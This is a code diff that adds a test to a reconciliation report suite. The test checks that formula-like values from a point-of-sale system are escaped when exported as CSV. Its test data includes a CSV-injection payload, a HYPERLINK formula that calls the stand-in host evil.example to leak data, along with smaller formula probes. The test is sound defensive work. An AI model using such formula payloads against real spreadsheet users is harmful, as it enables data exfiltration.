@@ -136,6 +136,39 @@ describe.each(STORES)('the three-way report ($name store)', ({ name }) => {
     expect(lines[3]).toMatch(new RegExp(`^unclaimed_operation,,,${outsideOperation},`));
   });
 
+  it("as CSV over HTTP, a POS's values that would run as formulas are quoted and neutralised: at a cell's start, and after a ';' inside it", async () => {
+    // A past day nothing else in this file touches: these three are its only differences.
+    const at = '2025-06-01T12:00:00.000Z';
+    const formula = '=HYPERLINK("http://evil.example/?leak","open")';
+    pos.add(
+      'default',
+      { ...sale(formula, 1000), updatedAt: at },
+      { ...sale('A-7;=1+2', 1000), updatedAt: at },
+      { ...refund('B-8', 'R-8;@SUM(1)'), updatedAt: at },
+    );
+    const csv = await report('from=2025-06-01&to=2025-06-01').set('accept', 'text/csv');
+    expect(csv.status).toBe(200);
+    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
+    const lines = csv.text.split('\r\n');
+    expect(lines).toHaveLength(1 + 3 + 1);
+    expect(lines[0]).toBe('kind,transactionId,orderId,operationId,why,next');
+    const next = '"backfill: POST /v1/admin/backfill {""merchantId"":""default"",""pos"":""generic"",""since"":""2025-06-01T12:00:00.000Z""} (or npm run backfill -- --merchant default --pos generic --since 2025-06-01T12:00:00.000Z)"';
+    // A formula first: preceded by ', the cell quoted and its quotes doubled; the transactionId, where = does not begin a part, quoted only.
+    expect(lines[1]).toBe(
+      `missing_in_ledger,"generic:=HYPERLINK(""http://evil.example/?leak"",""open"")","'=HYPERLINK(""http://evil.example/?leak"",""open"")",,"a paid generic order of 10.00 (changed 2025-06-01T12:00:00.000Z) has no ledger record: its webhook never arrived or was not processed",${next}`,
+    );
+    // ';=' inside a cell: what a ';' locale would split off as its own cell begins with ' as well.
+    expect(lines[2]).toBe(`missing_in_ledger,"generic:A-7;'=1+2","A-7;'=1+2",,"a paid generic order of 10.00 (changed 2025-06-01T12:00:00.000Z) has no ledger record: its webhook never arrived or was not processed",${next}`);
+    // In the text the bridge writes around a POS's value (why) as well.
+    expect(lines[3]).toBe(`missing_in_ledger,"generic:B-8","B-8",,"refund R-8;'@SUM(1) of generic order B-8 (changed 2025-06-01T12:00:00.000Z): the ledger has no record of the order or the refund",${next}`);
+    expect(lines.at(-1)).toBe('');
+    // Read as a ';' locale reads it (quotes ignored, split at every ';' and ','), no cell begins with a formula character.
+    for (const line of lines) for (const cell of line.split(/[;,]/)) expect(cell.replace(/^[ "]+/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    // And the same report as JSON keeps the values as the POS gave them.
+    const json = await report('from=2025-06-01&to=2025-06-01');
+    expect(json.body.differences.map((d: { orderId: string }) => d.orderId)).toEqual([formula, 'A-7;=1+2', 'B-8']);
+  });
+
   it('a POS that cannot be listed: named in sources, the report incomplete, and nothing of it half-compared', async () => {
     pos.failNext = new PosApiError('generic API GET /orders answered 429', true);
     const res = await report();
